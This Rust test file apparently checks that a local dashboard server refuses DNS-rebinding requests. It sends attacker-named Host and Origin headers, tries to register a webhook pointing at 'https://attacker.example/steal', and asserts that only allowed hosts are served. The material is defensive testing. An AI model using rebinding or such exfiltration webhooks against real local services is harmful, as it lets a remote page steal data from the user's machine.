//! Attack: DNS rebinding. A page at `http://rebind.attacker.example:PORT`
//! whose name now resolves to 127.0.0.1 sends `Host` and `Origin` naming
//! the attacker's host, and the CSRF marker. Every request is refused
//! before anything reaches the upstream; the same requests under an allowed
//! host are answered.

use crate::support::{raw_request, sandbox_config, Harness, API};

const HOOK: &str = r#"{"url":"https://attacker.example/steal","events":["response.created"]}"#;

#[tokio::test]
async fn a_rebinding_page_can_neither_write_nor_read() {
    let h = Harness::with(sandbox_config(), |c| {
        c.settings.allow_hosts = vec!["dashboard.example.test".into()];
    })
    .await;
    let port = h.addr.port();
    let rebound = format!("rebind.attacker.example:{port}");
    let origin = format!("http://{rebound}");
    let write = |host: String, origin: String| {
        let addr = h.addr;
        async move {
            let headers = [
                ("Host", host.as_str()),
                ("Origin", origin.as_str()),
                ("x-conferbot-csrf", "1"),
                ("content-type", "application/json"),
            ];
            raw_request(addr, "POST", &format!("{API}/webhooks"), &headers, HOOK).await
        }
    };

    let (status, answer) = write(rebound.clone(), origin.clone()).await;
    assert_eq!(status, 403, "{answer}");
    assert!(answer.contains("Host not allowed"), "{answer}");
    for path in [
        format!("{API}/usage"),
        format!("{API}/webhooks"),
        "/api/conferbot/events".to_owned(),
        "/healthz".to_owned(),
        "/metrics".to_owned(),
    ] {
        let headers = [("Host", rebound.as_str()), ("Origin", origin.as_str())];
        let (status, answer) = raw_request(h.addr, "GET", &path, &headers, "").await;
        assert_eq!(status, 403, "{path}: {answer}");
    }
    // No Host at all (HTTP/1.0 style) is refused too.
    let (status, _) = raw_request(h.addr, "GET", &format!("{API}/usage"), &[], "").await;
    assert_eq!(status, 400);
    assert_eq!(
        h.stats().api_calls,
        0,
        "a rebound request reached the upstream"
    );

    // An allowed host whose page is not the origin: CSRF still refuses.
    let (status, answer) = write(format!("dashboard.example.test:{port}"), origin).await;
    assert_eq!(status, 403, "{answer}");
    assert!(answer.contains("may not write here"), "{answer}");
    assert_eq!(h.stats().api_calls, 0);

    // The same write from the server's own pages is answered.
    for host in [
        format!("127.0.0.1:{port}"),
        format!("dashboard.example.test:{port}"),
    ] {
        let (status, answer) = write(host.clone(), format!("http://{host}")).await;
        assert_eq!(status, 201, "{answer}");
    }
    assert_eq!(h.stats().api_calls, 2);
    h.shutdown().await;
}
